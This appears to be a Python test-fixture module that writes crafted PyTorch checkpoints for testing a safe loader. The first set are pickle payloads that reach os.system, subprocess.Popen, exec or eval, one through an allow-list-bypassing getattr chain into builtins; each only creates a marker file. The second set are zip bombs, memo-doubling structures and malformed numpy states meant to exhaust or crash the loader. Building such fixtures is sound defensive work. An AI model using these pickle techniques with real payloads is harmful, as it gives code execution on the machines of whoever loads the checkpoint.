"""A corpus of crafted checkpoints, each of which would write a marker file if its code ran.

Every file is a real torch.save zip archive. Most are pickled with Python's own pickler
from objects whose ``__reduce__`` names the callable and its arguments; the ones
that name a global under another module than its own (``os.system`` is ``posix.system``
to the pickler) are assembled opcode by opcode.
"""
import collections
import copyreg
import io
import os
import pickle
import struct
import subprocess
import zipfile
from pathlib import Path
from typing import Any, Callable, Dict

import numpy as np
import torch
from mmengine.logging import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2


class Call:
    """Pickles as ``fn(*args)``: the unpickler makes that call."""

    def __init__(self, fn: Callable, *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def state_pickled(cls: type, state: Any) -> Any:
    """An instance of ``cls`` that pickles as ``cls.__new__(cls)`` with ``state`` set on
    it, the way mmengine's objects pickle, whatever ``cls.__getstate__`` would say."""
    obj = cls.__new__(cls)
    obj.__reduce_ex__ = lambda protocol: (copyreg.__newobj__, (cls,), state)
    return obj


def exec_chain(code: str) -> Call:
    """``exec(code)`` reached from an allow-listed ``getattr`` and torch's allow-listed
    ``_rebuild_from_type_v2``, which calls the function it is handed: HistoryBuffer's
    ``__init__.__globals__['__builtins__']['exec']``. Each call's result keeps its type
    check happy by naming its own class, read with getattr."""
    module_globals = Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__globals__')
    globals_get = Call(getattr, module_globals, 'get')
    builtins_dict = Call(_rebuild_from_type_v2, globals_get,
                         Call(getattr, module_globals, '__class__'), ('__builtins__',), {})
    function_type = Call(getattr, globals_get, '__class__')
    exec_fn = Call(_rebuild_from_type_v2, Call(getattr, builtins_dict, 'get'),
                   function_type, ('exec',), {})
    return Call(_rebuild_from_type_v2, exec_fn, function_type, (code,), {})


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b'X' + struct.pack('<I', len(data)) + data  # BINUNICODE


def _raw_call(module: str, name: str, argument: bytes) -> bytes:
    """Protocol-2 pickle of ``module.name(argument)``: GLOBAL, one argument, REDUCE."""
    return (b'\x80\x02c' + f'{module}\n{name}\n'.encode() + argument + b'\x85R.')


def _save_raw(path: Path, data_pkl: bytes) -> None:
    """A torch.save archive whose pickle is ``data_pkl``."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, 'w') as target:
        for info in source.infolist():
            target.writestr(info.filename, data_pkl if info.filename.endswith('/data.pkl')
                            else source.read(info))


def _buffer_state(**changes: Any) -> dict:
    state = dict(max_length=10, _log_history=np.zeros(1), _count_history=np.ones(1, int),
                 statistics_methods={'mean': HistoryBuffer.mean})
    state.update(changes)
    return state


def write_corpus(directory: Path) -> Dict[str, Path]:
    """Write every crafted checkpoint into ``directory``.

    Returns:
        name -> path; the payload of ``<name>.pth`` would create ``<name>.ran`` beside it.
    """
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}

    def marker(name: str) -> str:
        return str(directory / f'{name}.ran')

    def touch_code(name: str) -> str:
        return f'open({marker(name)!r}, "w").close()'

    pickled = {
        'getattr_chain_exec': lambda n: exec_chain(touch_code(n)),
        'getattr_globals': lambda n: Call(getattr, Call(getattr, HistoryBuffer, '__init__'),
                                          '__globals__'),
        'getattr_builtins': lambda n: Call(getattr, Call(getattr, HistoryBuffer, '__init__'),
                                           '__builtins__'),
        'getattr_dunder_class': lambda n: Call(getattr, HistoryBuffer, '__class__'),
        'rebuild_with_statistics_method': lambda n: Call(
            _rebuild_from_type_v2, Call(getattr, HistoryBuffer, 'mean'), torch.Tensor,
            (touch_code(n),), {}),
        'rebuild_with_eval': lambda n: Call(
            _rebuild_from_type_v2, eval, torch.Tensor, (touch_code(n),), {}),
        'rebuild_with_history_buffer': lambda n: Call(
            _rebuild_from_type_v2, HistoryBuffer, torch.Tensor, ([touch_code(n)], [1]), {}),
        'reduce_os_system': lambda n: {
            'meta': {'iter': 2}, 'state_dict': {'weight': torch.ones(2)},
            'message_hub': Call(os.system, f'touch {marker(n)}')},
        'reduce_subprocess_popen': lambda n: Call(subprocess.Popen, ['touch', marker(n)]),
        'reduce_builtins_exec': lambda n: Call(exec, touch_code(n)),
        'numpy_object_array': lambda n: {'meta': {'x': np.array([1, 'a'], dtype=object)}},
        'numpy_ndarray_call': lambda n: {'meta': {'x': Call(np.ndarray, (2,), 'O')}},
        'history_buffer_call': lambda n: Call(HistoryBuffer, [touch_code(n)], [1]),
        'history_buffer_foreign_statistic': lambda n: state_pickled(
            HistoryBuffer, _buffer_state(statistics_methods={'mean': HistoryBuffer.min})),
        'history_buffer_extra_attribute': lambda n: state_pickled(
            HistoryBuffer, _buffer_state(_statistics_methods={})),
        'history_buffer_object_history': lambda n: state_pickled(
            HistoryBuffer, _buffer_state(_log_history=np.array([None], object))),
    }
    for name, payload in pickled.items():
        paths[name] = directory / f'{name}.pth'
        torch.save(payload(name), paths[name])

    shell = lambda n: _unicode(f'touch {marker(n)}')  # noqa: E731
    raw = {
        'global_os_system': ('os', 'system', shell),
        'global_posix_system': ('posix', 'system', shell),
        'global_builtins_eval': ('builtins', 'eval', lambda n: _unicode(touch_code(n))),
        'global_builtins_exec': ('__builtin__', 'exec', lambda n: _unicode(touch_code(n))),
        'global_subprocess_popen': ('subprocess', 'Popen', lambda n: (
            b']' + b'(' + _unicode('touch') + _unicode(marker(n)) + b'e')),
    }
    for name, (module, function, argument) in raw.items():
        paths[name] = directory / f'{name}.pth'
        _save_raw(paths[name], _raw_call(module, function, argument(name)))
    return paths


def marker_of(path: Path) -> Path:
    """The file the payload of ``path`` would create."""
    return path.with_suffix('.ran')




# ------------------------------------------------------------------------------------------
# Files that would crash, hang or exhaust the loading process, or come back as something
# other than plain data. Assembled opcode by opcode where Python's pickler cannot write
# them (nesting beyond its recursion limit, states it would not write).


class Ops:
    """A protocol-2 pickle, opcode by opcode."""

    def __init__(self) -> None:
        self.data = bytearray(b'\x80\x02')

    def raw(self, data: bytes) -> 'Ops':
        self.data += data
        return self

    def global_(self, module: str, name: str) -> 'Ops':
        return self.raw(b'c' + f'{module}\n{name}\n'.encode())

    def text(self, value: str) -> 'Ops':
        return self.raw(_unicode(value))

    def int(self, value: int) -> 'Ops':
        return self.raw(b'J' + struct.pack('<i', value) if -2 ** 31 <= value < 2 ** 31 else
                        b'\x8a\x08' + struct.pack('<q', value))

    def put(self, index: int) -> 'Ops':
        return self.raw(b'r' + struct.pack('<I', index))

    def get(self, index: int) -> 'Ops':
        return self.raw(b'j' + struct.pack('<I', index))

    def encoded(self, value: bytes) -> 'Ops':
        """bytes as protocol 2 writes them: _codecs.encode(text, 'latin1')."""
        return (self.global_('_codecs', 'encode').text(value.decode('latin1')).text('latin1')
                .raw(b'\x86R'))

    def dtype(self, code: str) -> 'Ops':
        """numpy.dtype(code, False, True), as numpy pickles one (its state set apart)."""
        return self.global_('numpy', 'dtype').text(code).raw(b'\x89\x88\x87R')

    def dtype_state(self, flags: int = 0, subarray: bytes = b'N', names: bytes = b'N',
                    fields: bytes = b'N') -> 'Ops':
        """BUILD with a float64 dtype's state, (3, '<', subarray, names, fields, 8, 1,
        flags); numpy's own has None, None, None and flags 0."""
        return (self.raw(b'(K\x03').text('<').raw(subarray + names + fields)
                .int(-1).int(-1).int(flags).raw(b'tb'))

    def finish(self) -> bytes:
        return bytes(self.data + b'.')


def _value_in_dict(build: Callable[[Ops], Ops], key: str = 'meta') -> bytes:
    """A pickle of {key: <what build pushes>}."""
    return build(Ops().raw(b'}').text(key)).raw(b's').finish()


def _doubling(depth: int, container: bytes) -> Callable[[Ops], Ops]:
    """A value `depth` levels deep whose every level holds the one below twice (memo
    references): 2**depth leaves unfolded. container: TUPLE2 for tuples, or a list."""
    def build(ops: Ops) -> Ops:
        ops.raw(b'N').put(0)
        for level in range(depth):
            if container == b'tuple':
                ops.get(level).get(level).raw(b'\x86')
            else:
                ops.raw(b']').raw(b'(').get(level).get(level).raw(b'e')
            ops.put(level + 1)
        return ops
    return build


def _history_buffer_dtype_set_twice(ops: Ops) -> Ops:
    """A HistoryBuffer whose array's dtype passes every check, and is given another state
    afterwards through the memo: check, then change. The file's object holds both as a
    tuple (buffer, dtype)."""
    ops.raw(b'(').global_('mmengine.logging.history_buffer', 'HistoryBuffer').raw(b')\x81')
    ops.raw(b'}').text('_log_history')
    ops.global_('numpy.core.multiarray', '_reconstruct').global_('numpy', 'ndarray')
    ops.raw(b'K\x00\x85').encoded(b'b').raw(b'\x87R')
    ops.raw(b'(K\x01K\x01\x85').dtype('f8').put(7).dtype_state().raw(b'\x89')
    ops.encoded(bytes(8)).raw(b'tb')  # the array's state: (1, (1,), dtype, False, data)
    ops.raw(b's').raw(b'b')      # the buffer's state: {'_log_history': array}
    ops.get(7).dtype_state(flags=1)  # the same dtype, now with REFCOUNT set
    return ops.raw(b't')


def _storage_pickle(count: int) -> bytes:
    """{'w': a float tensor over storage '0', declared as `count` floats}."""
    ops = Ops().raw(b'}').text('w')
    ops.global_('torch._utils', '_rebuild_tensor_v2')
    ops.raw(b'(').text('storage').global_('torch', 'FloatStorage').text('0').text('cpu')
    ops.int(count).raw(b't').raw(b'Q')
    ops.raw(b'K\x00').raw(b'K\x01\x85').raw(b'K\x01\x85').raw(b'\x89')
    ops.global_('collections', 'OrderedDict').raw(b')R').raw(b't').raw(b'R')
    return ops.raw(b's').finish()


def _save_zip(path: Path, records: Dict[str, bytes], compress: bool = False) -> None:
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, 'w', method) as archive:
        for name, data in records.items():
            archive.writestr(name, data)


def _zip_bomb(path: Path, member: str, size: int) -> None:
    """An archive whose `member` unpacks to `size` bytes of zeros, deflated; its pickle (if
    not the member) reads them as one float storage."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('archive/version', b'3\n')
        if member != 'archive/data.pkl':
            archive.writestr('archive/data.pkl', _storage_pickle(size // 4))
        with archive.open(member, 'w', force_zip64=True) as record:
            chunk = bytes(2 ** 20)
            for _ in range(size // len(chunk)):
                record.write(chunk)


#: name -> (what the file holds, a phrase of the CheckpointError it must get).
RESOURCE_FILES = {
    'dtype_recursive_fields': 'a numpy dtype (f8) a state other than its own',
    'dtype_refcount_flag': 'a numpy dtype (f8) a state other than its own',
    'dtype_item_is_pointer_flag': 'a numpy dtype (f8) a state other than its own',
    'dtype_subarray': 'a numpy dtype (f8) a state other than its own',
    'dtype_set_twice': 'sets the state of a dtype twice',
    'tuple_key_deep': 'nests deeper than 100 levels',
    'tuple_key_doubling': 'builds more than 10000000 values',
    'list_doubling': 'builds more than 10000000 values',
    'bytearray_huge': 'bytearray(n)',
    'reconstruct_huge_shape': 'otherwise than numpy pickles one',
    'object_array_unbuilt': 'otherwise than numpy pickles one',
    'unicode_array_unbuilt': 'otherwise than numpy pickles one',
    'history_buffer_unbuilt': 'makes a buffer and never sets its state',
    'ordered_dict_attributes': "attributes other than a state dict's _metadata",
    'storage_beyond_record': 'declares 1099511627776 elements of 4 bytes',
    'record_zip_bomb': 'times the file',
    'pickle_zip_bomb': 'times the file',
    'zip_without_pickle': 'holds no data.pkl',
    'pickle_protocol_4': 'of protocol 4; torch.save writes protocol 2',
    'bare_pickle': 'it is a bare pickle',
}


def write_resource_corpus(directory: Path) -> Dict[str, Path]:
    """Write every :data:`RESOURCE_FILES` file into ``directory``; name -> path."""
    directory.mkdir(parents=True, exist_ok=True)
    paths = {name: directory / f'{name}.pth' for name in RESOURCE_FILES}
    self_fields = (_unicode('x') + b'\x85' + b'}' + _unicode('x')
                   + b'j' + struct.pack('<I', 1) + b'K\x00\x86s')  # names, {'x': (self, 0)}
    pickles = {
        'dtype_recursive_fields': _value_in_dict(
            lambda ops: ops.dtype('f8').put(1).raw(b'(K\x03').text('|').raw(b'N' + self_fields)
            .int(8).int(1).int(16).raw(b'tb')),
        'dtype_refcount_flag': _value_in_dict(lambda ops: ops.dtype('f8').dtype_state(flags=1)),
        'dtype_item_is_pointer_flag': _value_in_dict(
            lambda ops: ops.dtype('f8').dtype_state(flags=4)),
        'dtype_subarray': _value_in_dict(
            lambda ops: ops.dtype('f8').dtype_state(subarray=b'(' + b'N' + b'K\x02\x85t')),
        'dtype_set_twice': _value_in_dict(_history_buffer_dtype_set_twice, 'message_hub'),
        'tuple_key_deep': Ops().raw(b'}').raw(b'N' + b'\x85' * 10 ** 6).raw(b'Ns').finish(),
        'tuple_key_doubling': _value_in_dict(_doubling(64, b'tuple')),
        'list_doubling': _value_in_dict(_doubling(40, b'list')),
        'storage_beyond_record': _storage_pickle(2 ** 40),
        'pickle_protocol_4': pickle.dumps({'meta': {}}, protocol=4),
    }
    base = io.BytesIO()
    torch.save({'w': torch.ones(1)}, base)
    with zipfile.ZipFile(base) as archive:
        records = {info.filename: archive.read(info) for info in archive.infolist()}
    for name, data_pkl in pickles.items():
        _save_zip(paths[name], {**records, 'archive/data.pkl': data_pkl})

    ordered = collections.OrderedDict(a=1)
    ordered.get, ordered.keys = 'shadowed', 'shadowed'
    objects = {
        'bytearray_huge': {'meta': Call(bytearray, 2 ** 34)},
        'reconstruct_huge_shape': {'meta': Call(np.core.multiarray._reconstruct, np.ndarray,
                                                (2 ** 37,), b'b')},
        'object_array_unbuilt': {'meta': Call(np.core.multiarray._reconstruct, np.ndarray,
                                              (0,), b'O')},
        'unicode_array_unbuilt': {'meta': Call(np.core.multiarray._reconstruct, np.ndarray,
                                               (4,), b'U')},
        'history_buffer_unbuilt': {'message_hub': state_pickled(HistoryBuffer, None)},
        'ordered_dict_attributes': {'meta': ordered},
    }
    for name, payload in objects.items():
        torch.save(payload, paths[name])
    _zip_bomb(paths['record_zip_bomb'], 'archive/data/0', 2 ** 26)
    _zip_bomb(paths['pickle_zip_bomb'], 'archive/data.pkl', 2 ** 26)
    _save_zip(paths['zip_without_pickle'],
              {name: data for name, data in records.items() if not name.endswith('data.pkl')})
    paths['bare_pickle'].write_bytes(pickle.dumps({'meta': {}}, protocol=2))
    return paths
